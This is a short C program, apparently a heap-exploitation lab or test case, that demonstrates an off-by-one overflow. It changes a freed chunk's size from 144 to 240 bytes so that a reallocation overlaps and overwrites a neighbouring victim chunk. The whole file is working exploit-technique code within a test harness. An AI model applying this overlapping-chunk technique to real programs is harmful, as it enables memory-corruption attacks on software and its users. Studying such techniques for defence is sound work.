/*
 * metadata: one byte too many enlarges the size of the next chunk, which is freed and comes back so
 * long that it covers the block behind it.
 */
#include "attack.h"

int main(void) {
  settle(136);
  volatile unsigned char *first = allocate(136);
  Word *second = allocate(136), *victim = allocate(136);
  allocate(136);
  /*
   * Inside the victim, where the enlarged chunk will end, its owner has put what looks like chunks
   * in use.
   */
  for (int i = 0; i < 17; i++) victim[i] = 0x21;
  first[136] = 0xf1; /* 0x91, a chunk of 144 bytes, becomes 0xf1: 240 bytes */
  release((void *)second);
  Word *taken = allocate(232);
  if (taken)
    for (int i = 0; i < 20; i++) taken[i] = 0x4141414141414141;
  return victim[0] == 0x4141414141414141 ? GOAL_REACHED : 0;
}
